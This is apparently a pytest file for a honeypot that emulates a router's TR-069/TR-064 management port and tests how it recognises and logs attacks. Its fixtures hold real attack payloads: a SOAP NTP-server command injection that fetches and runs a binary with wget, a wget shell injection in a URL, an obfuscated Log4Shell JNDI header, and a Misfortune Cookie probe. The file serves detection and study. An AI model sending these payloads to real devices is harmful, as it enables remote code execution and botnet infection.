"""The management port: connection requests, TR-064's actions, and what is put into them."""

from __future__ import annotations

import re

import pytest

from eudaemon.events.catalogue import CommandEntered
from eudaemon.protocols import load
from eudaemon.protocols._front import Front
from eudaemon.protocols._loot import URLS_MAX
from eudaemon.protocols._pages import COMMAND_LINES_MAX
from eudaemon.protocols._soap import BODY_BYTES_MAX
from eudaemon.protocols.tr069 import Tr069
from eudaemon.testing.script import Table, play, visit
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed

# As Mirai's successor of November 2016 sent it.
NTP = (
    b'<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" '
    b'SOAP-ENV:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"> <SOAP-ENV:Body> <u:SetNTPServers '
    b'xmlns:u="urn:dslforum-org:service:Time:1"> <NewNTPServer1>`cd /tmp;wget http://198.51.100.7/1;chmod 777 1;./1`'
    b"</NewNTPServer1> <NewNTPServer2></NewNTPServer2></u:SetNTPServers> </SOAP-ENV:Body></SOAP-ENV:Envelope>"
)


def talk(host: Host | None = None) -> Table:
    return Table(Tr069(visit(host=host, port=7547))).open()


@pytest.mark.parametrize("split", [0, 1])
def test_a_time_server_with_a_command_in_it(split: int) -> None:
    table = talk()
    head = b"POST /UD/act?1 HTTP/1.1\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n"
    table.say(head + b"Content-Length: %d\r\n\r\n" % len(NTP) + NTP, split)
    assert table.sent.startswith(b"HTTP/1.1 200 OK\r\n")
    assert b'<u:SetNTPServersResponse xmlns:u="urn:dslforum-org:service:Time:1">' in table.sent
    names = [(fact.kind, getattr(fact, "name", "")) for fact in table.facts]
    assert ("exploit.recognised", "tr064-ntp") in names
    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/1"]


REQUESTS = r"""
> GET / HTTP/1.1\r\nHost: a\r\n\r\n
*
! http.request
> GET /tr069 HTTP/1.1\r\nAuthorization: Digest username="acs", realm="x", nonce="y", uri="/tr069", response="0f"\r\n\r\n
*
! login.tried user='acs' password='digest 0f' accepted=True
> GET /x;wget%20http://198.51.100.7/x HTTP/1.1\r\n\r\n
*
! exploit.recognised name='shell-injection' command='wget http://198.51.100.7/x'
? http://198.51.100.7/x
= ok 2321
> GET / HTTP/1.1\r\nUser-Agent: ${jndi:${lower:L}dap://198.51.100.7/a}\r\n\r\n
*
! exploit.recognised name='log4shell' command='ldap://198.51.100.7/a'
? ldap://198.51.100.7/a
= failed
> PUT / HTTP/1.1\r\nContent-Length: 0\r\n\r\n
*
> nonsense\r\n
*
/ over
"""


def test_whatever_knocks() -> None:
    table = play(Tr069, REQUESTS, given=visit(port=7547))
    # What nmap's table of products looks for; to run it takes eleven seconds.
    assert re.match(rb"HTTP/1\.[01] \d\d\d (?:[^\r\n]*\r\n(?!\r\n))*?Server: RomPager/([-.\w/ ]+)\r\n", table.sent)
    statuses = [part[:3] for part in table.sent.split(b"HTTP/1.1 ")[1:]]
    assert statuses == [b"401", b"200", b"404", b"401", b"501", b"400"]
    assert b"WWW-Authenticate: Digest realm=" in table.sent


def test_the_cookie_of_misfortune_shows_up_in_the_page() -> None:
    shown = set()
    for number in range(16):
        table = talk(Host.from_seed(Seed(b"%d" % number)))
        table.say(b"GET /x HTTP/1.1\r\nCookie: C107373883=/omg1337hax\r\n\r\n")
        assert table.sent.startswith(b"HTTP/1.1 404 Not Found\r\n")
        shown.add(b"'/omg1337hax'" in table.sent)
        assert (b"RomPager/4.51" in table.sent) != (b"'/omg1337hax'" in table.sent)
    assert shown == {True, False}


@pytest.mark.parametrize(("action", "status"), [("GetInfo", 200), ("GetSecurityKeys", 200), ("Set", 200), ("X", 500)])
def test_actions(action: str, status: int) -> None:
    table = talk()
    table.say(b"POST / HTTP/1.0\r\nSOAPAction: a:b#%s\r\n\r\n" % action.encode())
    assert table.sent.startswith(b"HTTP/1.1 %d " % status)
    assert (b"<NewKeyPassphrase>" in table.sent) == (action == "GetSecurityKeys")


def test_it_shares_its_port_with_telnet() -> None:
    """What begins as HTTP is this room's; whoever is silent, or says anything else, gets telnet."""
    for said, answering in ((b"GET / HT", "tr069"), (b"POST /U", "tr069"), (b"root\r\n", "telnet"), (b"", "telnet")):
        front = Front(visit(port=7547), (load("telnet"), load("tr069")), load("catchall"))
        table = Table(front).open()
        table.say(said)
        table.wait(3)
        assert front.answering == answering


def called(argument: bytes) -> bytes:
    body = b"<u:SetNTPServers><NewNTPServer1>%s</NewNTPServer1></u:SetNTPServers>" % argument
    return b"POST / HTTP/1.0\r\nSOAPAction: a:b#SetNTPServers\r\nContent-Length: %d\r\n\r\n" % len(body) + body


@pytest.mark.parametrize("past", [0, 1])
def test_limits(past: int) -> None:
    table = talk()
    table.say(called(b"`" + b"\n".join([b"id"] * (COMMAND_LINES_MAX + past)) + b"`"))
    assert table.facts.count(CommandEntered("id")) == COMMAND_LINES_MAX
    table = talk()
    begins, tail = len(b"<u:SetNTPServers><NewNTPServer1>"), b"</a><b>`wget http://a/b`"
    table.say(called(tail.rjust(BODY_BYTES_MAX - begins - len(b"</") + past)))
    assert len(table.wishes) == 1 - past
    table = talk()
    lookups = b"".join(b"X: ${jndi:ldap://a/%d}\r\n" % number for number in range(URLS_MAX + past))
    table.say(b"GET / HTTP/1.0\r\n" + lookups + b"\r\n")
    assert len(table.wishes) == URLS_MAX
